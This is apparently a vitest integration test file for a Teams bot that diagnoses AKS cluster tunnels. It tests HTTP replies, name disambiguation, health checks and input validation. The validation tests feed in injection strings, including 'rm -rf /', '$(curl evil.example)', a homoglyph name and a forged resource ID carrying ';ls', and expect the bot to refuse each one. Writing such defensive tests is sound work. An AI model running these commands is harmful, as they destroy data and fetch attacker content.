/**
 * The bot over real HTTP through CloudAdapter: activities POSTed to /api/messages, replies either in
 * the response (deliveryMode expectReplies) or POSTed/PUT to a local fake connector at serviceUrl.
 */
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config.js';
import { silentLogger } from '../../src/log.js';
import { startBot } from '../../src/start-bot.js';
import { cardText } from '../support/card-walk.js';
import { expectValidCard } from '../support/validate-card.js';
import { cardOf, messageActivity, postActivity } from '../support/fake-connector.js';
import { botOverHttp } from '../support/bot-over-http.js';
import { tempDir } from '../support/temp-dir.js';

const ENV = { PORT: '0', SIM_LATENCY_SCALE: '0', STATE_SQLITE_PATH: path.join(tempDir('bot'), 'state.sqlite') };

const t = botOverHttp(ENV);

async function ask(text: string, overrides: Record<string, unknown> = {}) {
  const res = await postActivity(t.bot.url, messageActivity(text, { deliveryMode: 'expectReplies', ...overrides }));
  expect(res.status).toBe(200);
  return res.body.activities as Array<Record<string, any>>;
}

describe('bot over HTTP, expectReplies', () => {
  it('answers "diagnose cluster <demo cluster>" with one valid card naming the tunnel kind and node count', async () => {
    const replies = await ask('diagnose cluster aks-demo-healthy');
    expect(replies).toHaveLength(1);
    const card = cardOf(replies[0]!);
    expectValidCard(card);
    const text = cardText(card);
    expect(text).toContain('aks-demo-healthy');
    expect(text).toMatch(/konnectivity/i);
    expect(text).toMatch(/\b3\b/);
  });

  it('strips the Teams mention and finds a tunnel-front cluster', async () => {
    const replies = await ask('<at>Tunnel Doctor</at> diagnose AKS-LEGACY-TF'.replace('AKS-LEGACY-TF', 'aks-demo-healthy'), {
      conversation: { id: '19:channel@thread.tacv2', conversationType: 'channel', tenantId: '72f988bf-86f1-41af-91ab-2d7cd011db47' },
    });
    expect(cardText(cardOf(replies[0]!))).toContain('aks-demo-healthy');
  });

  it('names what was searched and the closest names for an unknown cluster', async () => {
    const replies = await ask('diagnose cluster aks-demo-healty');
    const card = cardOf(replies[0]!);
    expectValidCard(card);
    const text = cardText(card);
    expect(text).toContain('aks-demo-healty');
    expect(text).toContain('contoso-prod');
    expect(text).toContain('aks-demo-healthy');
  });

  it('offers a choice when the name exists in two subscriptions, and the choice diagnoses the right one', async () => {
    const replies = await ask('diagnose aks-shared');
    const card = cardOf(replies[0]!);
    expectValidCard(card);
    const actions = JSON.stringify(card).match(/\/subscriptions\/[^"]+managedClusters\/aks-shared/g) ?? [];
    expect(new Set(actions).size).toBe(2);
    const devId = [...new Set(actions)].find((id) => /rg-shared-dev/i.test(id))!;
    // The button's data comes back as activity.value; the server re-validates it.
    const chosen = await ask('', { value: { action: 'diagnose', clusterId: devId } });
    expect(cardText(cardOf(chosen[0]!))).toMatch(/rg-shared-dev/);
  });

  it.each([
    ['diagnose aks-prod; rm -rf /', /";"/],
    ['diagnose $(curl evil.example)', /"\$"/],
    ['diagnose аks-prod', /U\+0430/],
    [`diagnose ${'x'.repeat(10_000)}`, /characters long/],
  ])('refuses %s with the reason', async (text, reason) => {
    const replies = await ask(text);
    const card = cardOf(replies[0]!);
    expectValidCard(card);
    expect(cardText(card)).toMatch(reason);
  });

  it('refuses forged choose-cluster data like typed text', async () => {
    const replies = await ask('', { value: { action: 'diagnose', clusterId: '/subscriptions/x/resourceGroups/rg;ls/providers/Microsoft.ContainerService/managedClusters/a' } });
    expect(cardText(cardOf(replies[0]!))).toMatch(/not a managed cluster resource id|";"/);
  });

  it('answers help and anything else with the help card listing demo clusters', async () => {
    for (const text of ['help', 'what is going on?']) {
      const replies = await ask(text);
      const card = cardOf(replies.at(-1)!);
      expectValidCard(card);
      expect(cardText(card)).toContain('aks-nsg-deny');
    }
  });
});

describe('bot over HTTP, replies through the connector', () => {
  it('answers the POST at once, then sends progress and updates it in place with the result', async () => {
    const activity = messageActivity('diagnose aks-demo-healthy', { serviceUrl: t.connector.url, conversation: { id: 'conv-progress' } });
    const before = t.connector.calls.length;
    const res = await postActivity(t.bot.url, activity);
    expect(res.status).toBe(200);
    await t.connector.waitFor((calls) => calls.slice(before).some((c) => c.method === 'PUT' && /aks-demo-healthy/.test(JSON.stringify(c.activity)) && !/Diagnosing/.test(cardText(cardOf(c.activity)))));
    await t.bot.drain();
    const mine = t.connector.calls.slice(before).filter((c) => c.conversationId === 'conv-progress');
    expect(mine[0]?.method).toBe('POST');
    expect(cardText(cardOf(mine[0]!.activity))).toMatch(/Diagnosing aks-demo-healthy/);
    const final = mine.filter((c) => c.method === 'PUT').at(-1)!;
    expect(final.activityId).toBe(mine[0]!.activityId);
    expectValidCard(cardOf(final.activity));
    expect(cardText(cardOf(final.activity))).toMatch(/konnectivity/i);
  });
});

describe('health endpoints', () => {
  it('/healthz is alive and /readyz checks the Azure layer', async () => {
    expect((await fetch(`${t.bot.url}/healthz`)).status).toBe(200);
    const ready = await fetch(`${t.bot.url}/readyz`);
    expect(ready.status).toBe(200);
    expect(await ready.json()).toMatchObject({ status: 'ready', checks: [{ name: 'azure', ok: true }, { name: 'store', ok: true }] });
  });

  it('/readyz says not ready when the simulated Azure is gone', async () => {
    const other = await startBot(parseConfig(ENV), silentLogger);
    await other.sim!.close();
    const ready = await fetch(`${other.url}/readyz`);
    expect(ready.status).toBe(503);
    expect(await ready.json()).toMatchObject({ status: 'not-ready', checks: [{ name: 'azure', ok: false }, { name: 'store', ok: true }] });
    await other.close().catch(() => {});
  });
});
